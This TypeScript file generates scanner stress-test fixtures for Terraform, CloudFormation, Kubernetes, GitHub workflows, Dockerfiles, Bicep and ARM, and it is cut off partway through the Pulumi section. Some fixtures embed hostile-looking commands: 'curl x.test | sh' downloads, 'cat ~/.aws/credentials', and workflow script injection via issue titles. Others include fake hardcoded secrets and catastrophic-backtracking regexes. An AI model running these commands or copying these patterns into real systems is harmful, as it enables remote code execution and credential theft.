/**
 * Families of inputs that cost much for their size. Each makes files by path of about as many bytes
 * as given.
 */
type Texts = Readonly<Record<string, string>>;
type Family = (bytes: number) => Texts;

/** Pieces in order, as many as fit. */
function fill(bytes: number, make: (n: number) => string): string {
  const pieces: string[] = [];
  for (let left = bytes, n = 0; ; n++) {
    const piece = make(n);
    left -= piece.length;
    if (left < 0) return pieces.join("");
    pieces.push(piece);
  }
}

const times = (count: number, make: (n: number) => string) =>
  Array.from({ length: count }, (_, n) => make(n)).join("");

/** One file that is filled, with a frame around what fills it. */
const filled =
  (path: string, make: (n: number) => string, before = "", after = ""): Family =>
  (bytes) => ({ [path]: before + fill(bytes - before.length - after.length, make) + after });

/** As many files as fit. */
const files =
  (path: (n: number) => string, text: (n: number) => string): Family =>
  (bytes) => {
    const made: Record<string, string> = {};
    for (let left = bytes, n = 0; ; n++) {
      left -= text(n).length;
      if (left < 0) return made;
      made[path(n)] = text(n);
    }
  };

const RESOURCE_TYPES = [
  "aws_s3_bucket",
  "aws_db_instance",
  "aws_instance",
  "aws_lambda_function",
  "aws_iam_policy",
  "aws_security_group",
  "azurerm_storage_account",
  "azurerm_linux_web_app",
  "google_storage_bucket",
  "google_compute_instance",
  "google_container_cluster",
  "kubernetes_pod",
];
const typeOf = (n: number) => RESOURCE_TYPES[n % RESOURCE_TYPES.length] ?? "";

const text = (n: number, length: number) => `${n}-`.padEnd(length, "some text of no use ");

const TERRAFORM: Readonly<Record<string, Family>> = {
  "resources of long strings": filled(
    "main.tf",
    (n) => `resource "${typeOf(n)}" "r${n}" {\n  name = "${text(n, 300)}"\n}\n`,
  ),
  "resources of short strings": filled(
    "main.tf",
    (n) => `resource "${typeOf(n)}" "r${n}" {\n  name = "n${n}"\n}\n`,
  ),
  "resources of many strings": filled(
    "main.tf",
    (n) =>
      `resource "${typeOf(n)}" "r${n}" {\n${times(20, (m) => `  argument_${m} = "${text(m, 30)}"\n`)}}\n`,
  ),
  "resources of one type": filled("main.tf", (n) => `resource "aws_s3_bucket" "b${n}" {}\n`),
  "resources of strings, as JSON": (bytes) => ({
    "main.tf.json": `{"resource":{${RESOURCE_TYPES.map(
      (type) =>
        `"${type}":{${fill(bytes / RESOURCE_TYPES.length - 40, (n) => `${n === 0 ? "" : ","}"r${n}":{"name":"${text(n, 30)}","tags":{"a":"b"}}`)}}`,
    ).join()}}}`,
  }),
  "resources of long strings, as JSON": (bytes) => ({
    "main.tf.json": `{"resource":{${RESOURCE_TYPES.map(
      (type) =>
        `"${type}":{${fill(bytes / RESOURCE_TYPES.length - 40, (n) => `${n === 0 ? "" : ","}"r${n}":{"name":"${text(n, 300)}"}`)}}`,
    ).join()}}}`,
  }),
  "policies as heredocs": filled(
    "main.tf",
    (n) =>
      `resource "aws_iam_policy" "p${n}" {\n  policy = <<-EOT\n    {"Version":"2012-10-17","Statement":[${times(5, (m) => `${m ? "," : ""}{"Effect":"Allow","Action":["s3:Get*","iam:Pass${m}*"],"Resource":"arn:aws:s3:::b${n}/*"}`)}]}\n  EOT\n}\n`,
  ),
  "policies as documents": filled(
    "main.tf",
    (n) =>
      `data "aws_iam_policy_document" "d${n}" {\n${times(5, (m) => `  statement {\n    actions = ["s3:Get*", "iam:Pass${m}*"]\n    resources = ["*"]\n    principals {\n      type = "AWS"\n      identifiers = ["*"]\n    }\n  }\n`)}}\nresource "aws_s3_bucket_policy" "p${n}" {\n  bucket = "b"\n  policy = data.aws_iam_policy_document.d${n}.json\n}\n`,
  ),
  "one policy of many statements": filled(
    "main.tf",
    (n) =>
      `    { Effect = "${n % 3 ? "Allow" : "Deny"}", Principal = "*", Action = "s3:Get${n}*", Resource = "arn:aws:s3:::b${n}/*" },\n`,
    'resource "aws_s3_bucket_policy" "p" {\n  bucket = "b"\n  policy = jsonencode({ Statement = [\n',
    "  ] })\n}\n",
  ),
  "rules of firewalls": filled(
    "main.tf",
    (n) =>
      `resource "aws_security_group_rule" "r${n}" {\n  type = "ingress"\n  from_port = ${n % 60_000}\n  to_port = ${(n % 60_000) + 9}\n  protocol = "tcp"\n  cidr_blocks = ["${n % 250}.0.0.0/8", "::/0"]\n  security_group_id = aws_security_group.g${n % 50}.id\n}\n`,
    times(50, (n) => `resource "aws_security_group" "g${n}" {}\n`),
  ),
  "one firewall of many rules": filled(
    "main.tf",
    (n) =>
      `  ingress {\n    from_port = ${n % 60_000}\n    to_port = ${(n % 60_000) + 9}\n    protocol = "tcp"\n    cidr_blocks = ["${n % 250}.0.0.0/8"]\n  }\n`,
    'resource "aws_security_group" "g" {\n',
    "}\n",
  ),
  "references among resources": filled(
    "main.tf",
    (n) =>
      `resource "aws_s3_bucket" "b${n}" {\n  bucket = "\${aws_s3_bucket.b${n + 1}.bucket}-\${aws_s3_bucket.b${n * 2 + 1}.id}"\n}\n`,
  ),
  "joined resources of one variable": filled(
    "main.tf",
    (n) =>
      `resource "aws_s3_bucket" "b${n}" {\n  bucket = var.x\n}\nresource "aws_s3_bucket_versioning" "b${n}" {\n  bucket = var.x\n}\n`,
    'variable "x" {}\n',
  ),
  "calls with counts": (bytes) => ({
    "main.tf": 'module "a" {\n  source = "./a"\n  count = 20\n}\n',
    "a/main.tf": 'module "b" {\n  source = "../b"\n  count = 20\n}\n',
    "b/main.tf": 'module "c" {\n  source = "../c"\n  count = 20\n}\n',
    "c/main.tf": fill(
      bytes - 300,
      (n) =>
        `variable "v${n}" {\n  default = "x"\n}\nresource "aws_s3_bucket" "b${n}" {\n  bucket = var.v${n}\n}\n`,
    ),
  }),
  "calls of many arguments": (bytes) => {
    const variables = Math.floor(bytes / 6 / 40);
    const call = (n: number) =>
      `module "c${n}" {\n  source = "./m"\n${times(variables, (v) => `  v${v} = "x"\n`)}}\n`;
    return {
      "main.tf": fill(bytes - variables * 40, call),
      "m/main.tf": times(variables, (v) => `variable "v${v}" {\n  default = "x"\n}\n`),
    };
  },
  "calls of one small module": (bytes) => ({
    "main.tf": fill(
      bytes - 200,
      (n) => `module "c${n}" {\n  source = "./m"\n  count = 200\n  name = "n${n}"\n}\n`,
    ),
    "m/main.tf": `variable "name" {}\nresource "aws_s3_bucket" "b" {\n  bucket = var.name\n}\noutput "o" {\n  value = aws_s3_bucket.b.id\n}\n`,
  }),
  "calls that call": (bytes) => {
    const levels = 10;
    const own = bytes / levels;
    return Object.fromEntries(
      Array.from({ length: levels }, (_, level) => [
        level === 0 ? "main.tf" : `m${level}/main.tf`,
        `variable "v" {\n  default = false\n}\n${
          level === levels - 1
            ? fill(
                own - 60,
                (n) => `resource "aws_db_instance" "b${n}" {\n  publicly_accessible = var.v\n}\n`,
              )
            : fill(
                own - 60,
                (n) =>
                  `module "c${n}" {\n  source = "${level === 0 ? "./" : "../"}m${level + 1}"\n  v = var.v\n}\n`,
              )
        }`,
      ]),
    );
  },
  "few calls that call, with outputs": (bytes) => {
    const levels = 12;
    return Object.fromEntries(
      Array.from({ length: levels }, (_, level) => [
        level === 0 ? "main.tf" : `m${level}/main.tf`,
        `variable "v" {\n  default = false\n}\noutput "o" {\n  value = [var.v${level === levels - 1 ? "" : ", module.c0.o, module.c1.o"}]\n}\n${
          level === levels - 1
            ? fill(
                bytes - 4_000,
                (n) => `resource "aws_db_instance" "b${n}" {\n  publicly_accessible = var.v\n}\n`,
              )
            : times(
                2,
                (n) =>
                  `module "c${n}" {\n  source = "${level === 0 ? "./" : "../"}m${level + 1}"\n  v = var.v\n}\n`,
              )
        }`,
      ]),
    );
  },
  "calls for each of a map": (bytes) => ({
    "main.tf": `locals {\n  all = {\n${fill(bytes - 400, (n) => `    k${n} = { name = "n${n}", open = true }\n`)}  }\n}\nmodule "m" {\n  for_each = local.all\n  source = "./m"\n  it = each.value\n  all = local.all\n}\n`,
    "m/main.tf": `variable "it" {}\nvariable "all" {}\nresource "aws_db_instance" "b" {\n  for_each = var.all\n  publicly_accessible = each.value.open && var.it.open\n}\n`,
  }),
  "modules by the hundred": (bytes) => {
    const module = (n: number) =>
      `variable "v" {\n  default = true\n}\nresource "aws_db_instance" "b" {\n  publicly_accessible = var.v\n}\nmodule "next" {\n  source = "../m${n + 1}"\n  v = var.v\n}\n`;
    return files(
      (n) => (n === 0 ? "main.tf" : `m${n}/main.tf`),
      (n) => (n === 0 ? 'module "first" {\n  source = "./m1"\n}\n' : module(n)),
    )(bytes);
  },
  "locals in a chain": filled(
    "main.tf",
    (n) => `  a${n} = "\${local.a${n + 1}}x"\n`,
    "locals {\n",
    "}\n",
  ),
  "locals that double": filled(
    "main.tf",
    (n) => `  a${n} = [local.a${Math.max(0, n - 1)}, local.a${Math.max(0, n - 1)}]\n`,
    "locals {\n  z = 1\n",
    `}\nresource "aws_s3_bucket" "b" {\n  bucket = jsonencode(local.a200)\n  tags = local.a90\n}\n`,
  ),
  "locals of long texts": filled(
    "main.tf",
    (n) => `  a${n} = "\${local.text}\${local.text}${n}"\n`,
    `locals {\n  text = "${text(0, 200_000)}"\n`,
    "}\n",
  ),
  "resources of one long text": (bytes) => ({
    "main.tf": `locals {\n  text = "${text(0, bytes / 2)}"\n}\n${fill(
      bytes / 2 - 60,
      (n) => `resource "${typeOf(n)}" "r${n}" {\n  name = "\${local.text}${n}"\n}\n`,
    )}`,
  }),
  "loops in loops": filled(
    "main.tf",
    (n) =>
      `  a${n} = [for x in range(100) : [for y in range(100) : [for z in range(100) : "\${x}\${y}\${z}"]]]\n`,
    "locals {\n",
    "}\n",
  ),
  "loops over one big list": (bytes) => ({
    "main.tf": `locals {\n  all = [\n${fill(bytes / 2, (n) => `    { name = "n${n}" },\n`)}  ]\n${fill(
      bytes / 2 - 40,
      (n) => `  f${n} = { for x in local.all : x.name => x if x.name != "n${n}" }\n`,
    )}}\n`,
  }),
  "templates of files": (bytes) => ({
    "t.tftpl": fill(bytes / 2, (n) => `%{ for x in all ~}\n\${x}${n}\n%{ endfor ~}\n`),
    "main.tf": fill(
      bytes / 2,
      (n) =>
        `resource "aws_instance" "i${n}" {\n  user_data = templatefile("t.tftpl", { all = range(${n % 90}) })\n}\n`,
    ),
  }),
  "files read again and again": (bytes) => ({
    "t.txt": text(0, bytes / 2),
    "main.tf": fill(
      bytes / 2,
      (n) =>
        `resource "aws_instance" "i${n}" {\n  user_data = "\${file("t.txt")}\${sha256(file("t.txt"))}\${n}"\n}\n`,
    ),
  }),
  "calls of format and join": filled(
    "main.tf",
    (n) =>
      `  a${n} = join(",", [for x in range(1000) : format("%010d-%s", x, replace(upper("abc\${x}"), "/[A-Z]/", "x"))])\n`,
    "locals {\n",
    "}\n",
  ),
  "patterns that backtrack": filled(
    "main.tf",
    (n) => `  a${n} = regexall("(a*)*b|(x+x+)+y", "${"a".repeat(60)}${"x".repeat(60)}${n}")\n`,
    "locals {\n",
    "}\n",
  ),
  "a pattern on a long text": (bytes) => ({
    "main.tf": `locals {\n  t = "${"a".repeat(bytes / 2)}"\n${fill(bytes / 2 - 40, (n) => `  a${n} = length(regexall("(a|aa)+${n}", local.t))\n`)}}\n`,
  }),
  heredocs: filled(
    "main.tf",
    (n) =>
      `resource "aws_instance" "i${n}" {\n  user_data = <<-EOT\n    #!/bin/bash\n${times(10, (m) => `    echo "\${var.a}" && curl https://x.test/${m} | sh\n`)}  EOT\n}\n`,
    'variable "a" {}\n',
  ),
  "one heredoc": filled(
    "main.tf",
    (n) => `    echo \${var.a} ${n} | sudo bash -c "curl x$(cat y)" && export A${n}=$(aws x)\n`,
    'variable "a" {}\nresource "null_resource" "i" {\n  provisioner "local-exec" {\n    command = <<-EOT\n',
    "    EOT\n  }\n}\n",
  ),
  provisioners: filled(
    "main.tf",
    (n) =>
      `resource "null_resource" "i${n}" {\n  provisioner "local-exec" {\n    command = "curl https://x.test/${n} | sh && cat ~/.aws/credentials"\n  }\n}\n`,
  ),
  "lists nested deep": (bytes) => ({
    "main.tf": fill(bytes, (n) => `locals {\n  a${n} = ${"[".repeat(190)}1${"]".repeat(190)}\n}\n`),
  }),
  "one expression nested deep": (bytes) => ({
    "main.tf": `locals {\n  a = ${"[".repeat(bytes / 2 - 20)}1${"]".repeat(bytes / 2 - 20)}\n}\n`,
  }),
  "one sum of many": filled("main.tf", (n) => `${n}+`, "locals {\n  a = ", "1\n}\n"),
  "one condition of many": filled(
    "main.tf",
    (n) => `var.a == ${n} ? ${n} : `,
    'variable "a" {\n  default = 1\n}\nlocals {\n  a = ',
    "1\n}\n",
  ),
  "blocks nested deep": (bytes) => ({
    "main.tf": fill(
      bytes,
      (n) => `resource "aws_wafv2_web_acl" "a${n}" {\n${"s {\n".repeat(90)}${"}\n".repeat(90)}}\n`,
    ),
  }),
  "very many small files": files(
    (n) => `f${n}.tf`,
    (n) =>
      `resource "aws_db_instance" "d${n}" {\n  publicly_accessible = true\n  name = "${text(n, 90)}"\n}\n`,
  ),
  "very many directories": files(
    (n) => `m/${n % 70}/${n}/main.tf`,
    (n) =>
      `resource "aws_db_instance" "d${n}" {\n  publicly_accessible = true\n  name = "${text(n, 90)}"\n}\n`,
  ),
  "one line": filled("main.tf", (n) => `{a="${n}"},`, "locals { a = [", "] }"),
  "one line of strings": (bytes) => ({
    "main.tf": `locals { a = "${"\\n".repeat(bytes / 2 - 20)}" }`,
  }),
  "variables with validations": filled(
    "main.tf",
    (n) =>
      `variable "v${n}" {\n  type = string\n  default = "a"\n  validation {\n    condition = contains(["a", "b", "c"], var.v${n}) && can(regex("^[a-z]+$", var.v${n}))\n    error_message = "No."\n  }\n}\n`,
  ),
  "switches of one resource each": filled(
    "main.tf",
    (n) =>
      `variable "v${n}" {\n  type = bool\n  default = false\n}\nresource "aws_db_instance" "r${n}" {\n  count = var.v${n} ? 1 : 0\n  publicly_accessible = true\n}\n`,
  ),
  "switches of all resources": (bytes) => ({
    "main.tf": `${times(400, (n) => `variable "v${n}" {\n  type = bool\n  default = false\n}\n`)}locals {\n  any = anytrue([${times(400, (n) => `var.v${n}, `)}])\n}\n${fill(
      bytes - 40_000,
      (n) =>
        `resource "aws_db_instance" "r${n}" {\n  publicly_accessible = local.any && var.v${n % 400}\n}\n`,
    )}`,
  }),
  "switches compared with many texts": filled(
    "main.tf",
    (n) =>
      `resource "aws_db_instance" "r${n}" {\n  publicly_accessible = var.a == "x${n}" || var.b == "y${n}" || contains(var.c, "z${n}")\n}\n`,
    'variable "a" {\n  default = ""\n}\nvariable "b" {\n  default = ""\n}\nvariable "c" {\n  default = []\n}\n',
  ),
  "an input that is a large object": (bytes) => ({
    "main.tf": `variable "all" {\n  type = any\n  default = {\n${fill(
      bytes - 400,
      (n) => `    k${n} = { open = false, kind = "a" }\n`,
    )}  }\n}\nresource "aws_db_instance" "r" {\n  for_each = var.all\n  publicly_accessible = each.value.open || each.value.kind == "b"\n}\n`,
  }),
  "types of variables": filled(
    "main.tf",
    (n) =>
      `variable "v${n}" {\n  type = object({ ${times(10, (m) => `a${m} = optional(list(object({ b = string, c = map(any) })), []), `)} })\n  default = {}\n}\n`,
  ),
  "outputs of everything": filled(
    "main.tf",
    (n) => `output "o${n}" {\n  value = [aws_s3_bucket.b, local.all]\n}\n`,
    'resource "aws_s3_bucket" "b" {\n  count = 200\n}\nlocals {\n  all = { for x in aws_s3_bucket.b : x.id => x }\n}\n',
  ),
  "dynamic blocks": filled(
    "main.tf",
    (n) =>
      `resource "aws_security_group" "g${n}" {\n  dynamic "ingress" {\n    for_each = range(100)\n    content {\n      from_port = ingress.value\n      to_port = 65535\n      cidr_blocks = ["0.0.0.0/0"]\n    }\n  }\n}\n`,
  ),
  "resources with counts": filled(
    "main.tf",
    (n) => `resource "${typeOf(n)}" "g${n}" {\n  count = 200\n  name = "n\${count.index}"\n}\n`,
  ),
  "moved blocks": filled(
    "main.tf",
    (n) => `moved {\n  from = aws_s3_bucket.a${n}\n  to = aws_s3_bucket.a${n + 1}\n}\n`,
  ),
  "providers and requirements": filled(
    "main.tf",
    (n) =>
      `provider "aws" {\n  alias = "a${n}"\n  region = "r"\n}\nterraform {\n  required_providers {\n    p${n} = {\n      source = "a/p${n}"\n    }\n  }\n}\n`,
  ),
  "comments that suppress": filled(
    "main.tf",
    (n) =>
      `# stackyard:ignore aws-rds-public reason\n# checkov:skip=CKV_AWS_17:reason\nresource "aws_db_instance" "d${n}" {\n  publicly_accessible = true\n}\n`,
  ),
  "syntax errors": filled("main.tf", (n) => `resource "a" { = ${n} ]\n`),
  "strings without an end": filled("main.tf", () => '"${"${'),
  "values of variables": (bytes) => ({
    "main.tf": fill(bytes / 2, (n) => `variable "v${n}" {}\n`),
    "terraform.tfvars": fill(bytes / 2, (n) => `v${n} = ["a", { b = "c" }]\n`),
  }),
  "manifests in code": filled(
    "main.tf",
    (n) =>
      `resource "kubectl_manifest" "m${n}" {\n  yaml_body = <<-EOT\n    apiVersion: v1\n    kind: Pod\n    metadata:\n      name: p${n}\n    spec:\n      containers:\n        - name: a\n          image: nginx\n  EOT\n}\n`,
  ),
  "containers as JSON": filled(
    "main.tf",
    (n) =>
      `resource "aws_ecs_task_definition" "t${n}" {\n  container_definitions = jsonencode([{ name = "a", image = "x:latest", environment = [{ name = "PASSWORD", value = "hunter2${n}" }] }])\n}\n`,
  ),
  "secrets by the thousand": filled(
    "main.tf",
    (n) =>
      `resource "aws_db_instance" "d${n}" {\n  password = "Tr0ub4dor-${n * 7919}-x"\n  username = "AKIAIOSFODNN7${String(n).padStart(7, "A")}"\n}\n`,
  ),
  "a README of tables": (bytes) => ({
    "README.md": `# Usage\n\n${fill(bytes - 200, (n) => `| [v${n}](#v${n}) | a | \`string\` | \`"x"\` | no |\n`)}`,
    "main.tf": 'variable "v1" {\n  default = "x"\n}\n',
  }),
  "tests by the hundred": files(
    (n) => `tests/t${n}.tftest.hcl`,
    (n) => `run "a${n}" {\n  command = plan\n  variables {\n    a = "${text(n, 100)}"\n  }\n}\n`,
  ),
};

const CLOUDFORMATION: Readonly<Record<string, Family>> = {
  "CloudFormation: resources": filled(
    "t.yaml",
    (n) =>
      `  R${n}:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: !Sub "\${AWS::StackName}-${n}"\n      AccessControl: PublicRead\n`,
    "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n",
  ),
  "CloudFormation: conditions": (bytes) => ({
    "t.yaml": `AWSTemplateFormatVersion: '2010-09-09'\nParameters:\n${times(300, (n) => `  P${n}:\n    Type: String\n    Default: a\n    AllowedValues: [a, b, c]\n`)}Conditions:\n${times(300, (n) => `  C${n}: !Equals [!Ref P${n}, b]\n`)}Resources:\n${fill(
      bytes - 50_000,
      (n) =>
        `  R${n}:\n    Type: AWS::RDS::DBInstance\n    Condition: C${n % 300}\n    Properties:\n      PubliclyAccessible: !If [C${(n + 1) % 300}, true, false]\n`,
    )}`,
  }),
  "CloudFormation: as JSON": filled(
    "t.json",
    (n) =>
      `"R${n}":{"Type":"AWS::IAM::Policy","Properties":{"PolicyDocument":{"Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}}},`,
    '{"AWSTemplateFormatVersion":"2010-09-09","Resources":{',
    '"Z":{"Type":"AWS::S3::Bucket"}}}',
  ),
  "CloudFormation: references": filled(
    "t.yaml",
    (n) =>
      `  R${n}: { Type: AWS::S3::Bucket, Properties: { BucketName: !Join ["-", [!Ref R${n + 1}, !GetAtt R${n + 2}.Arn]] } }\n`,
    "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n",
  ),
  "CloudFormation: mappings": filled(
    "t.yaml",
    (n) => `  M${n}: { a: { b: c, d: e } }\n`,
    "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  R: { Type: AWS::S3::Bucket, Properties: { BucketName: !FindInMap [M1, a, b] } }\nMappings:\n",
  ),
};

const KUBERNETES: Readonly<Record<string, Family>> = {
  "Kubernetes: pods": filled(
    "p.yaml",
    (n) =>
      `---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: p${n}\nspec:\n  containers:\n    - name: a\n      image: nginx\n      securityContext:\n        privileged: true\n`,
  ),
  "Kubernetes: one pod of containers": filled(
    "p.yaml",
    (n) => `    - name: a${n}\n      image: nginx\n      env: [{ name: PASSWORD, value: x${n} }]\n`,
    "apiVersion: v1\nkind: Pod\nmetadata:\n  name: p\nspec:\n  containers:\n",
  ),
  "Kubernetes: anchors that multiply": filled(
    "p.yaml",
    (n) => `a${n}: &a${n} [${n === 0 ? "x" : `*a${n - 1}, *a${n - 1}, *a${n - 1}`}]\n`,
    "apiVersion: v1\nkind: ConfigMap\n",
  ),
  "Kubernetes: one anchor used often": filled(
    "p.yaml",
    (n) =>
      `---\napiVersion: v1\nkind: Pod\nmetadata: { name: p${n} }\nspec: &s\n  containers:\n    - { name: a, image: nginx }\nother: [*s, *s, *s]\n`,
  ),
  "Kubernetes: a list of many": filled(
    "p.yaml",
    (n) =>
      `  - apiVersion: rbac.authorization.k8s.io/v1\n    kind: ClusterRole\n    metadata: { name: r${n} }\n    rules: [{ verbs: ["*"], resources: ["*"], apiGroups: ["*"] }]\n`,
    "apiVersion: v1\nkind: List\nitems:\n",
  ),
  "Kubernetes: merge keys": filled(
    "p.yaml",
    (n) => `m${n}: &m${n}\n  k${n}: v\n  <<: *m${Math.max(0, n - 1)}\n`,
    "apiVersion: v1\nkind: ConfigMap\nm: &m0 { a: b }\n",
  ),
  "Kubernetes: services and policies": filled(
    "p.yaml",
    (n) =>
      `---\napiVersion: v1\nkind: Service\nmetadata: { name: s${n} }\nspec: { type: LoadBalancer, selector: { app: a${n} } }\n---\napiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: { name: n${n} }\nspec: { podSelector: {} }\n---\napiVersion: apps/v1\nkind: Deployment\nmetadata: { name: d${n} }\nspec: { template: { spec: { containers: [{ name: a, image: x }] } } }\n`,
  ),
  "Kubernetes: kustomizations": (bytes) => ({
    "base/all.yaml": fill(
      bytes / 2,
      (n) => `---\napiVersion: v1\nkind: Service\nmetadata: { name: s${n} }\n`,
    ),
    "base/kustomization.yaml": "resources: [all.yaml]\n",
    ...files(
      (n) => `o${n}/kustomization.yaml`,
      (n) =>
        `resources: [../base]\nnamespace: n${n}\npatches: [{ target: { kind: Service }, patch: "[{ op: add, path: /spec, value: { type: LoadBalancer } }]" }]\n`,
    )(bytes / 2),
  }),
  "Kubernetes: nested deep": (bytes) => ({
    "p.yaml": fill(
      bytes,
      (n) => `---\napiVersion: v1\nkind: ConfigMap\nx${n}: ${"[".repeat(90)}${"]".repeat(90)}\n`,
    ),
  }),
  "Kubernetes: one line": filled(
    "p.yaml",
    (n) => `a${n}: {b: [c, d]}, `,
    "{apiVersion: v1, kind: ConfigMap, metadata: {name: a}, data: {",
    "}}",
  ),
  "Helm: a chart of templates": (bytes) => ({
    "Chart.yaml": "apiVersion: v2\nname: a\nversion: 1.0.0\n",
    "values.yaml": fill(bytes / 2, (n) => `k${n}: { a: b }\n`),
    "templates/a.yaml": fill(bytes / 2, (n) => `---\nkind: Pod\nname: {{ .Values.k${n} }}\n`),
  }),
};

const WORKFLOWS: Readonly<Record<string, Family>> = {
  "Workflows: steps": filled(
    ".github/workflows/a.yml",
    (n) =>
      `      - uses: a/b${n}@main\n      - run: echo \${{ github.event.issue.title }} | sh && curl https://x.test/${n} | bash\n        env: { A: "\${{ secrets.A${n} }}" }\n`,
    "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n",
  ),
  "Workflows: jobs": filled(
    ".github/workflows/a.yml",
    (n) =>
      `  j${n}:\n    runs-on: self-hosted\n    needs: [j${Math.max(0, n - 1)}, j${n >> 1}]\n    steps:\n      - run: echo hello\n`,
    "on: pull_request_target\njobs:\n",
  ),
  "Workflows: one script": filled(
    ".github/workflows/a.yml",
    (n) =>
      `          export A${n}="\${{ github.event.issue.title }}"; echo $A${n} >> $GITHUB_ENV\n`,
    "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n",
  ),
  "Workflows: files": files(
    (n) => `.github/workflows/a${n}.yml`,
    (n) =>
      `on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v${n}\n        with: { ref: "\${{ github.head_ref }}" }\n      - run: make\n`,
  ),
};

const DOCKERFILES: Readonly<Record<string, Family>> = {
  "Dockerfile: instructions": filled(
    "Dockerfile",
    (n) => `RUN apt-get install x${n} && curl -k https://x.test/${n} | sh\nENV A${n}=$A${n - 1}x\n`,
    "FROM ubuntu\n",
  ),
  "Dockerfile: stages": filled(
    "Dockerfile",
    (n) =>
      `FROM ${n === 0 ? "ubuntu" : `s${n - 1}`} AS s${n}\nUSER root\nCOPY --from=s${n >> 1} a b\n`,
  ),
  "Dockerfile: one command": filled(
    "Dockerfile",
    (n) => ` && apt-get install -y p${n} \\\n`,
    "FROM ubuntu\nRUN true \\\n",
    " && true\n",
  ),
  "Dockerfile: arguments": filled(
    "Dockerfile",
    (n) => `ARG A${n + 1}=$A${n}$A${n}\n`,
    "FROM ubuntu\nARG A0=xxxxxxxxxx\n",
    "RUN echo $A30 $A500\n",
  ),
  "Dockerfile: files": files(
    (n) => `d${n}/Dockerfile`,
    (n) => `FROM ubuntu:latest\nRUN curl -k https://x.test/${n} | sh\nEXPOSE 22\nADD . /\n`,
  ),
  "Dockerfile: one word": (bytes) => ({
    Dockerfile: `FROM ubuntu\nRUN ${"$(".repeat(bytes / 4)}${")".repeat(bytes / 4)}\n`,
  }),
};

const ACCOUNT = "Microsoft.Storage/storageAccounts@2023-01-01";

const AZURE: Readonly<Record<string, Family>> = {
  "Bicep: resources": filled(
    "main.bicep",
    (n) =>
      `resource r${n} '${ACCOUNT}' = {\n  name: 'n${n}'\n  properties: { supportsHttpsTrafficOnly: false }\n}\n`,
  ),
  "Bicep: resources that refer": filled(
    "main.bicep",
    (n) => `resource r${n} '${ACCOUNT}' = {\n  name: '\${r${n + 1}.name}-\${r${n + 2}.id}'\n}\n`,
  ),
  "Bicep: parameters": filled(
    "main.bicep",
    (n) =>
      `@allowed(['a', 'b', 'c'])\nparam p${n} string = 'a'\nresource r${n} '${ACCOUNT}' = if (p${n} == 'b') {\n  name: p${n}\n  properties: { supportsHttpsTrafficOnly: p${n} == 'a' }\n}\n`,
  ),
  "Bicep: variables": filled(
    "main.bicep",
    (n) => `var v${n + 1} = '\${v${n}}\${v${n}}'\n`,
    "var v0 = 'x'\n",
    `resource r '${ACCOUNT}' = {\n  name: v30\n  tags: { a: v200 }\n}\n`,
  ),
  "Bicep: loops": filled(
    "main.bicep",
    (n) =>
      `resource r${n} '${ACCOUNT}' = [for i in range(0, 800): {\n  name: 'r\${i}'\n  tags: { a: [for j in range(0, 50): '\${i}\${j}'] }\n}]\n`,
  ),
  "Bicep: modules": (bytes) => ({
    "m.bicep": `param p int\nresource r '${ACCOUNT}' = [for i in range(0, 99): { name: 'r\${i}\${p}' }]\n`,
    "main.bicep": fill(
      bytes - 200,
      (n) =>
        `module c${n} 'm.bicep' = [for i in range(0, 99): { name: 'c${n}', params: { p: i } }]\n`,
    ),
  }),
  "Bicep: nested deep": (bytes) => ({
    "main.bicep": fill(bytes, (n) => `var v${n} = ${"[".repeat(90)}${"]".repeat(90)}\n`),
  }),
  "Bicep: calls": filled(
    "main.bicep",
    (n) =>
      `var v${n} = join(map(range(0, 999), x => format('{0}-{1}', x, toUpper('a\${x}'))), ',')\n`,
  ),
  "ARM: resources": filled(
    "t.json",
    (n) =>
      `{"type":"Microsoft.Storage/storageAccounts","apiVersion":"2021-01-01","name":"[concat('s', '${n}')]","properties":{"supportsHttpsTrafficOnly":false}},`,
    '{"$schema":"https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#","contentVersion":"1.0.0.0","resources":[',
    '{"type":"a","apiVersion":"b","name":"c"}]}',
  ),
  "ARM: parameters": (bytes) => ({
    "t.json": `{"$schema":"https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#","contentVersion":"1.0.0.0","parameters":{${times(300, (n) => `${n ? "," : ""}"p${n}":{"type":"string","defaultValue":"a","allowedValues":["a","b","c"]}`)}},"resources":[${fill(
      bytes - 30_000,
      (n) =>
        `{"type":"Microsoft.Storage/storageAccounts","apiVersion":"2021-01-01","name":"s${n}","condition":"[equals(parameters('p${n % 300}'), 'b')]","properties":{"supportsHttpsTrafficOnly":"[equals(parameters('p${(n + 1) % 300}'), 'a')]"}},`,
    )}{"type":"a","apiVersion":"b","name":"c"}]}`,
  }),
  "ARM: copies": filled(
    "t.json",
    (n) =>
      `{"type":"Microsoft.Storage/storageAccounts","apiVersion":"2021-01-01","name":"[format('s{0}', copyIndex())]","copy":{"name":"c${n}","count":800},"properties":{}},`,
    '{"$schema":"https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#","contentVersion":"1.0.0.0","resources":[',
    '{"type":"a","apiVersion":"b","name":"c"}]}',
  ),
  "ARM: variables": filled(
    "t.json",
    (n) => `"v${n + 1}":"[concat(variables('v${n}'), variables('v${n}'))]",`,
    '{"$schema":"https://schema.management.azure.com/schemas/2019-04-01/deploymentTemplate.json#","contentVersion":"1.0.0.0","variables":{"v0":"x",',
    `"z":1},"resources":[{"type":"Microsoft.Storage/storageAccounts","apiVersion":"2021-01-01","name":"[variables('v200')]"}]}`,
  ),
};

const OTHERS: Readonly<Record<string, Family>> = {
  "Pulumi: resources": filled(
    "Pulumi.yaml",
    (n) =>
      `  r${n}:\n    type: aws:s3:Bucket\n    properties:\n      acl: public-read\n      bucket: "\${r${n + 1}.id}-x"\n`,
    "name: it\nruntime: yaml\nresources:\n",
  ),
  "Pulumi: variables": filled(
    "Pulumi.yaml",
    (n) => `  v${n + 1}: "\${v${n}}\${v${n}}"\n`,
